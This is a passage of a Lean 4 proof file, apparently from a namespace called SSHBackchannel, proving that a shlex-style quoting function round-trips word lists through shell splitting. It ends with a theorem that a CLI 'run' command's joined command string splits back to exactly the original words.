      = (if [o1, o2, o3, o4, o5].all (fun b => b)
         then (setupRemoteCmds target privKey, false, 0)
         else ((setupRemoteCmds target privKey).take
                 (([o1, o2, o3, o4, o5].takeWhile (fun b => b)).length + 1), true, 1)) := by
  cases o1 <;> cases o2 <;> cases o3 <;> cases o4 <;> cases o5 <;> rfl

theorem safe_not_ws (c : Char) (h : isSafeChar c = true) : isShlexWs c = false := by
  unfold isShlexWs
  by_cases h1 : c = ' '
  · subst h1; exact absurd h (by decide)
  by_cases h2 : c = '\t'
  · subst h2; exact absurd h (by decide)
  by_cases h3 : c = '\r'
  · subst h3; exact absurd h (by decide)
  by_cases h4 : c = '\n'
  · subst h4; exact absurd h (by decide)
  simp [h1, h2, h3, h4]

theorem safe_ne_sq (c : Char) (h : isSafeChar c = true) : c ≠ sqC := by
  intro e; subst e; exact absurd h (by decide)

theorem safe_ne_dq (c : Char) (h : isSafeChar c = true) : c ≠ dqC := by
  intro e; subst e; exact absurd h (by decide)

theorem safe_ne_bs (c : Char) (h : isSafeChar c = true) : c ≠ bsC := by
  intro e; subst e; exact absurd h (by decide)

theorem splitAux_norm_plain_some (c : Char) (hws : isShlexWs c = false)
    (h1 : c ≠ sqC) (h2 : c ≠ dqC) (h3 : c ≠ bsC) (t : List Char) (cs : List Char) :
    splitAux .norm (some t) (c :: cs) = splitAux .norm (some (t ++ [c])) cs := by
  simp [splitAux, hws, h1, h2, h3]

theorem splitAux_norm_plain_none (c : Char) (hws : isShlexWs c = false)
    (h1 : c ≠ sqC) (h2 : c ≠ dqC) (h3 : c ≠ bsC) (cs : List Char) :
    splitAux .norm none (c :: cs) = splitAux .norm (some [c]) cs := by
  simp [splitAux, hws, h1, h2, h3]

theorem splitAux_insq_plain (c : Char) (h : c ≠ sqC) (t : List Char) (cs : List Char) :
    splitAux .insq (some t) (c :: cs) = splitAux .insq (some (t ++ [c])) cs := by
  simp [splitAux, h]

theorem splitAux_safe_accum (w : List Char) :
    ∀ (_ : w.all isSafeChar = true) (t cs : List Char),
      splitAux .norm (some t) (w ++ cs) = splitAux .norm (some (t ++ w)) cs := by
  induction w with
  | nil => intro _ t cs; rw [List.nil_append, List.append_nil]
  | cons c w ih =>
    intro hw t cs
    rw [List.all_cons, Bool.and_eq_true] at hw
    obtain ⟨hc, hw'⟩ := hw
    rw [List.cons_append,
        splitAux_norm_plain_some c (safe_not_ws c hc) (safe_ne_sq c hc) (safe_ne_dq c hc)
          (safe_ne_bs c hc),
        ih hw' (t ++ [c]) cs, List.append_assoc, List.singleton_append]

theorem splitAux_escSq (w : List Char) :
    ∀ (t cs : List Char),
      splitAux .insq (some t) (escSq w ++ (sqC :: cs)) = splitAux .norm (some (t ++ w)) cs := by
  induction w with
  | nil => intro t cs; rw [escSq, List.nil_append, List.append_nil]; rfl
  | cons c w ih =>
    intro t cs
    by_cases hc : c = sqC
    · subst hc
      have he : escSq (sqC :: w) = sqC :: dqC :: sqC :: dqC :: sqC :: escSq w := by
        rw [escSq, if_pos rfl]
      rw [he]
      have hstep :
          splitAux .insq (some t)
              ((sqC :: dqC :: sqC :: dqC :: sqC :: escSq w) ++ (sqC :: cs))
            = splitAux .insq (some (t ++ [sqC])) (escSq w ++ (sqC :: cs)) := by
        rw [List.cons_append, List.cons_append, List.cons_append, List.cons_append,
            List.cons_append]
        rfl
      rw [hstep, ih (t ++ [sqC]) cs, List.append_assoc, List.singleton_append]
    · have he : escSq (c :: w) = c :: escSq w := by
        rw [escSq, if_neg hc]
      rw [he, List.cons_append, splitAux_insq_plain c hc, ih (t ++ [c]) cs,
          List.append_assoc, List.singleton_append]

theorem splitAux_quote (w : List Char) (cs : List Char) :
    splitAux .norm none (shlex_quote w ++ cs) = splitAux .norm (some w) cs := by
  by_cases h0 : w.isEmpty
  · have hw : w = [] := by
      cases w with
      | nil => rfl
      | cons c t => simp [List.isEmpty] at h0
    subst hw
    rfl
  · by_cases hall : w.all isSafeChar
    · have hq : shlex_quote w = w := by simp [shlex_quote, h0, hall]
      rw [hq]
      cases w with
      | nil => simp [List.isEmpty] at h0
      | cons c w' =>
        rw [List.all_cons, Bool.and_eq_true] at hall
        obtain ⟨hc, hw'⟩ := hall
        rw [List.cons_append,
            splitAux_norm_plain_none c (safe_not_ws c hc) (safe_ne_sq c hc) (safe_ne_dq c hc)
              (safe_ne_bs c hc),
            splitAux_safe_accum w' hw' [c] cs, List.singleton_append]
    · have hq : shlex_quote w = sqC :: (escSq w ++ [sqC]) := by
        simp [shlex_quote, h0, hall]
      rw [hq]
      have hassoc : (sqC :: (escSq w ++ [sqC])) ++ cs = sqC :: (escSq w ++ (sqC :: cs)) := by
        simp
      rw [hassoc]
      have hstep : splitAux .norm none (sqC :: (escSq w ++ (sqC :: cs)))
          = splitAux .insq (some []) (escSq w ++ (sqC :: cs)) := rfl
      rw [hstep, splitAux_escSq w [] cs, List.nil_append]

theorem shlex_split_join (ws : List (List Char)) :
    splitAux .norm none (shlex_join ws) = some ws := by
  induction ws with
  | nil => rfl
  | cons w ws ih =>
    cases ws with
    | nil =>
      have h := splitAux_quote w []
      rw [List.append_nil] at h
      show splitAux .norm none (shlex_quote w) = some [w]
      rw [h]
      rfl
    | cons w2 ws2 =>
      show splitAux .norm none (shlex_quote w ++ (' ' :: shlex_join (w2 :: ws2)))
          = some (w :: w2 :: ws2)
      rw [splitAux_quote w (' ' :: shlex_join (w2 :: ws2))]
      have hstep : splitAux .norm (some w) (' ' :: shlex_join (w2 :: ws2))
          = (splitAux .norm none (shlex_join (w2 :: ws2))).map (fun r => w :: r) := rfl
      rw [hstep, ih]
      rfl

/-- Claim C9: for every word list given to the `run` CLI command, the single
command string passed to `run_callback` is the shlex-join of the words, and
shell-splitting that transported string (shlex, POSIX rules) recovers
exactly the original word list — quoting round-trips word boundaries and
metacharacters. -/
theorem run_cli_roundtrip (cmdWords : List (List Char)) :
    mainRunPayload cmdWords = shlex_join cmdWords
    ∧ shlex_split (mainRunPayload cmdWords) = some cmdWords :=
  ⟨rfl, shlex_split_join cmdWords⟩

end SSHBackchannel
